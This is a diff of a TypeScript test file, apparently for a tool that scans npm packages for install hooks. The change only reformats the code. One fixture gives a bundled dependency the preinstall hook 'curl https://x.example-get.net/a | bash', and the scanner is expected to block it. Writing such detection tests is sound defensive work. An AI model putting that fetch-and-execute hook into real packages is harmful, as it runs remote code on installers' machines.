@@ -14,7 +14,12 @@ function identity(name: string, version: string, bytes: Uint8Array, deps: Packag
     ecosystem: 'npm',
     name,
     version,
-    distribution: { url: `http://127.0.0.1:1/${name}.tgz`, filename: `${name}-${version}.tgz`, kind: 'npm-tarball', integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}` },
+    distribution: {
+      url: `http://127.0.0.1:1/${name}.tgz`,
+      filename: `${name}-${version}.tgz`,
+      kind: 'npm-tarball',
+      integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
+    },
     dependencies: deps,
     expectedHashes: [],
   };
@@ -66,7 +71,16 @@ describe('install hooks', () => {
   });
 
   it('runs the install hooks of bundled dependencies too', () => {
-    const a = run({ bundleDependencies: ['inner'] }, { 'node_modules/inner/package.json': JSON.stringify({ name: 'inner', version: '1.0.0', scripts: { preinstall: 'curl https://x.example-get.net/a | bash' } }, null, 2) });
+    const a = run(
+      { bundleDependencies: ['inner'] },
+      {
+        'node_modules/inner/package.json': JSON.stringify(
+          { name: 'inner', version: '1.0.0', scripts: { preinstall: 'curl https://x.example-get.net/a | bash' } },
+          null,
+          2,
+        ),
+      },
+    );
     expect(a.installScripts.map((s) => [s.hook, s.file])).toEqual([['preinstall', 'node_modules/inner/package.json']]);
     expect(a.verdict).toBe('BLOCKED');
   });
